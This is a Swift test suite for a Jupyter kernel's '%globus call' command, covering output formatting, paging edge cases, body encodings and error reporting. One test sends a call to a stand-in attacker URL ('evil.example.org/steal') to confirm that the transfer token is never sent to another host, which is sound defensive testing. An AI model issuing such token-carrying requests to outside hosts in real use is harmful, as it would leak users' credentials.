import GlobusSimulator
import JSON
import JupyterKernel
import SimulatorSupport
import Testing
@testable import GlobusMagics
@testable import GlobusSDK

@Suite struct CallCommandTests {
    @Test func callsWithTheServicesTokenAndShowsJSON() async throws {
        try await withNotebook { nb in
            let (r, o) = try await nb.run("%globus login\n%globus call transfer GET /task_list -Q limit=2")
            #expect(r == .ok())
            #expect(o.results.last?["application/json"]?["DATA_TYPE"] == "task_list")
        }
    }

    /// A flow path whose id is not a UUID (36 characters with a `*`, which once stopped the kernel
    /// at a scope precondition) is an ordinary Flows call: Flows answers it, and the kernel goes on.
    @Test func aRunPathWithoutAUUIDIsAnOrdinaryCall() async throws {
        try await withNotebook { nb in
            let (r, _) = try await nb.run("%globus login\n%globus call flows POST '/flows/aaaaaaaa-bbbb-cccc-dddd-eeee*fffffff/run' --body '{}'")
            guard case .error(let e) = r else { Issue.record("\(r)"); return }
            #expect(e.ename == "GlobusAPIError" && e.evalue.hasPrefix("404"), "\(e)")
            #expect(try await nb.run("%echo still here").1.text.contains("still here"))
        }
    }

    /// Paging from an offset a person typed at Int.max: Transfer refuses it (offset and limit past
    /// its window) and the cell names that answer; nothing overflows and the kernel goes on.
    @Test func pagingFromAnOffsetAtIntMaxEndsInTransfersAnswer() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            for flag in ["--paginate", "--paginate --limit 5"] {
                let e = try await nb.failure("%globus call transfer GET /task_list -Q offset=\(Int.max) \(flag)")
                #expect(e?.ename == "ClientError.BadRequest" || e?.evalue.contains("400") == true, "\(flag): \(String(describing: e))")
            }
            #expect(try await nb.run("%globus call transfer GET /task_list -Q limit=1").0 == .ok())
        }
    }

    @Test func formatsFiltersAndTheRedirectFlag() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            let names = try await nb.run("%globus call transfer GET /endpoint_search -Q filter_fulltext=tutorial --jq 'DATA[].display_name'").1
            #expect(names.results.last?["application/json"]?.array?.isEmpty == false)
            let table = try await nb.run("%globus call transfer GET /endpoint_search -Q filter_fulltext=tutorial -F table").1
            #expect(table.results.last?["text/plain"]?.string?.contains(" | ") == true)
            // -L is declared once and read back through its key, whichever spelling is typed.
            let call = try CallCommand(try CallCommand.declaration.arguments.parse(["transfer", "GET", "/x", "-L"], command: "t"), body: nil)
            #expect(call.request(service: .transfer).followRedirects)
        }
    }

    @Test func bodiesAndTheirEncodings() throws {
        func request(_ words: [String], body: String? = nil) throws -> ServiceRequest {
            try CallCommand(try CallCommand.declaration.arguments.parse(words, command: "t"), body: body).request(service: .transfer)
        }
        let json = try request(["transfer", "POST", "/x", "--body", #"{"a": 1}"#])
        #expect(json.headers.contains { $0 == ("Content-Type", "application/json") })
        let form = try request(["transfer", "POST", "/x", "--body", "a=1&b=2"])
        #expect(form.headers.contains { $0 == ("Content-Type", "application/x-www-form-urlencoded") })
        let cell = try request(["transfer", "POST", "/x"], body: "{\"DATA_TYPE\": \"mkdir\"}\n")
        #expect(cell.body.map { String(decoding: $0, as: UTF8.self) } == "{\"DATA_TYPE\": \"mkdir\"}\n")
        #expect(throws: MagicError.self) { try request(["transfer", "POST", "/x", "--body", "{}"], body: "{}") }
        #expect(throws: MagicError.self) { try request(["transfer", "POST", "/x", "--body", "a", "--body-file", "/etc/hostname"]) }
        #expect(throws: MagicError.self) { try request(["nope", "GET", "/x"]) }
        #expect(throws: MagicError.self) { try request(["transfer", "FETCH", "/x"]) }
    }

    @Test func aTokenNeverGoesToAnotherHost() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            let e = try await nb.failure("%globus call transfer GET https://evil.example.org/steal")
            #expect(e?.ename == "UsageError" && e?.evalue.contains("Refusing to send the transfer token") == true)
        }
    }

    @Test func apiErrorsNameStatusAndCode() async throws {
        try await withNotebook { nb in
            _ = try await nb.run("%globus login")
            let e = try await nb.failure("%globus call transfer GET /task/not-a-task")
            #expect(e?.ename == "GlobusAPIError")
            #expect(e?.evalue.hasPrefix("404") == true)
        }
    }
}
